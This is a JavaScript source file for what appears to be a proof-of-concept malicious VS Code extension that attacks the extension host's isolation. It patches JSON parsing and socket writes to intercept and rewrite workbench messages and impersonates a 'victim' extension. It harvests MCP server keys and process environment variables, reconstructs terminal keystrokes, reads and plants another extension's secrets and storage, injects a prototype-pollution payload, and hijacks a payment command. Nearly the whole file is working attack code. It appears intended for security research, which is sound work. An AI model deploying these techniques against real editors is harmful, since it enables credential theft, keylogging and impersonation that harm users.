// Reads what the workbench says to this host, of which no API shows it anything, and says what no API lets it say.
"use strict";
const net = require("node:net");
const { attack } = require("./attack");

const said = [];
const parse = JSON.parse;
JSON.parse = (text, ...rest) => {
  if (typeof text === "string" && text.length < 1 << 20) said.push(text);
  return parse(typeof text === "string" ? text.replace(/^\["proofVictim\.pay"/, '["proofWire.pay"') : text, ...rest);
};
// A command of its own goes by another's name on the way out, and back again on the way in. An edit is hidden beside one of
// nothing. A row brings along what is merged into the object that all others are like.
const { stringify } = JSON;
JSON.stringify = (...words) =>
  stringify(...words)
    ?.replace(/^\["proofWire\.pay"/, '["proofVictim.pay"')
    .replace(/^\{"edits":.*made-by-edit.*$/, (text) => stringify({ edits: [], value: parse(text, (_key, value) => (value?.["$$ref$$"] === -1 ? undefined : value)) }))
    .replace(/^\[\[0,\{"handle":"[^"]*proof-row"/, '$&,"__proto__":{"__proto__":{"__lookupGetter__":"here"}}');

/**
 * An edit comes with buffers, which the workbench takes out of their wrapping: here it comes without, and is as long. Its own
 * only: in plain others' edits pass here too.
 */
function unwrap(bytes) {
  const METHOD = "$tryApplyWorkspaceEdit";
  const data = Buffer.from(bytes.buffer, bytes.byteOffset, bytes.length);
  if (!data.includes("made-by-edit")) return;
  const argument = data.indexOf(METHOD) + METHOD.length + 1; // behind the number of arguments
  if (argument <= METHOD.length || data[argument] !== 3) return;
  const length = data.readUInt32BE(argument + 5);
  data[argument] = 1;
  data.writeUInt32BE(length + 4, argument + 1);
  data.copyWithin(argument + 5, argument + 9, argument + 9 + length);
  data.fill(" ", argument + 5 + length, argument + 9 + length);
}
const { write } = net.Socket.prototype;
net.Socket.prototype.write = function (data, ...rest) {
  if (data instanceof Uint8Array) unwrap(data);
  return write.call(this, data, ...rest);
};

/** What was said that holds all of these words, by then. */
async function of(...words) {
  const heard = () => said.filter((text) => words.every((word) => text.includes(word))).join("\n");
  for (const end = Date.now() + 5000; Date.now() < end && !heard(); ) await new Promise((resolve) => setTimeout(resolve, 100));
  return heard();
}

const VICTIM = "proof.victim";

exports.activate = (context) => {
  // Who asks is what the host says of itself.
  context.secrets._id = VICTIM;
  const storage = context.globalState._storage._proxy;
  attack(context, "wire", {
    // A person's MCP servers, with the keys that they are started with.
    servers: () => of("PROOF_KEY"),
    // In the compartment's /proc there are its own processes, in the editor's all of the machine's.
    async environ(_facts, vscode) {
      const [, authority] = /vscode-remote(?::\/\/|","authority":")([^/"]+)/.exec(await of("vscode-remote"));
      const editors = (path) => vscode.Uri.from({ scheme: "vscode-remote", authority, path });
      const texts = [];
      for (const [name] of await vscode.workspace.fs.readDirectory(editors("/proc")))
        if (/^\d+$/.test(name)) texts.push(await vscode.workspace.fs.readFile(editors(`/proc/${name}/environ`)).then(String, () => ""));
      return texts.join("\n");
    },
    // What a person types into another extension's terminal, a key at a time.
    async keys() {
      const LENGTH = "secret-victim-".length + 24;
      const heard = () => said.map((text) => /^\[\d+,"(.)"\]$/.exec(text)?.[1] ?? "").join("");
      for (const end = Date.now() + 12_000; Date.now() < end && heard().length < LENGTH; ) await new Promise((resolve) => setTimeout(resolve, 100));
      return heard();
    },
    // Which files are open, and that one of them changed.
    tabs: () => of("id_wire", "tabDto"),
    files: () => of("id_wire", '"changed":[{'),
    password: () => context.secrets.get("token"),
    stored: () => storage.$initializeExtensionStorage(true, VICTIM),
    // The editor makes the victim's id of the rest of it.
    shape: () => storage.$initializeExtensionStorage(true, { value: "proof.wire", publisher: "proof", name: "victim" }),
    // Nobody but the editor reads its history, in which any file is an earlier one.
    async history({ key, port }, vscode) {
      vscode.workspace.registerTextDocumentContentProvider("vscode-local-history", { provideTextDocumentContent: () => "" });
      const location = `vscode-remote://127.0.0.1:${port}${key}`;
      const uri = vscode.Uri.from({ scheme: "vscode-local-history", path: "/x", query: JSON.stringify({ location, associatedResource: location }) });
      return Buffer.from(await vscode.workspace.fs.readFile(uri)).toString();
    },
    edit({ home }, vscode) {
      const edit = new vscode.WorkspaceEdit();
      edit.createFile(vscode.Uri.file(`${home}/made-by-edit.txt`), { overwrite: true });
      return vscode.workspace.applyEdit(edit);
    },
    async prototype(_facts, vscode) {
      const row = new vscode.TreeItem("proof-row");
      const treeDataProvider = { getChildren: (of) => (of ? [] : [row]), getTreeItem: (one) => one, getParent: () => undefined };
      await vscode.window.createTreeView("proofWire.tree", { treeDataProvider }).reveal(row);
    },
    plantPassword: ({ mark }) => context.secrets.store("token", mark),
    plantStored: ({ mark }) => storage.$setValue(true, VICTIM, { account: mark }),
    // A person pays with the victim, who has registered that command.
    command: (_facts, vscode) =>
      new Promise((resolve) => {
        const registered = vscode.commands.registerCommand("proofWire.pay", () => {
          registered.dispose();
          resolve("paid here");
        });
        setTimeout(() => {
          registered.dispose();
          resolve("not paid");
        }, 6000);
      }),
  });
};
